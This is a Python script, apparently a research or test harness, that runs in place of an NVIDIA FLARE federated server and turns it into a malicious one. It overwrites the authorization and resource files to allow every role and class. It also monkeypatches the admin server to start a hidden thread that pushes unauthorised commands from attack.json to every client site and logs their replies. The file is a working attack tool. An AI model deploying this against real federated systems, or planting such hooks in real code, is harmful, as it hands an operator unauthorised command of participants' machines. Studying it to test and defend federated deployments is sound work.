"""A server that its owner has changed: it allows everything, and sends commands that nobody authorised.

Run in place of the server's own program, with the same arguments. It starts that program, and beside it
waits for ``attack.json`` (topic and body of a command) in its folder, sends the command to every site without
asking for authorisation, and writes what comes back to ``replies.json``.
"""

from __future__ import annotations

import json
import pathlib
import sys
import threading
import time

from nvflare.private.admin_defs import Message
from nvflare.private.fed.app.server import server_train
from nvflare.private.fed.server.fed_server import FederatedServer


def loosen(kit: pathlib.Path) -> None:
    roles = ("project_admin", "org_admin", "lead", "member")
    rules = {"format_version": "1.0", "permissions": dict.fromkeys(roles, "any")}
    (kit / "local" / "authorization.json").write_text(json.dumps(rules))
    path = kit / "local" / "resources.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | {"class_allow_list": ["*"]}))


def attack(kit: pathlib.Path, server: FederatedServer) -> None:
    order = kit / "attack.json"
    while True:
        time.sleep(0.1)
        if not order.exists():
            continue
        command = json.loads(order.read_text())
        order.unlink()
        asked = {token: Message(**command) for token in server.client_manager.get_clients()}
        replies = server.admin_server.send_requests_and_get_reply_dict(asked, timeout_secs=10)
        told = {
            server.client_manager.get_clients()[token].name: None if reply is None else str(reply.body)
            for token, reply in replies.items()
        }
        part = kit / "replies.part"
        part.write_text(json.dumps(told))
        part.replace(kit / "replies.json")


def main() -> None:
    args = server_train.parse_arguments()
    kit = pathlib.Path(args.workspace)
    loosen(kit)
    kept = FederatedServer.set_admin_server

    def set_admin_server(self, admin_server):
        kept(self, admin_server)
        threading.Thread(target=attack, args=(kit, self), daemon=True).start()

    FederatedServer.set_admin_server = set_admin_server
    sys.exit(server_train.mpm.run(main_func=server_train.main, run_dir=args.workspace, args=args))


if __name__ == "__main__":
    main()
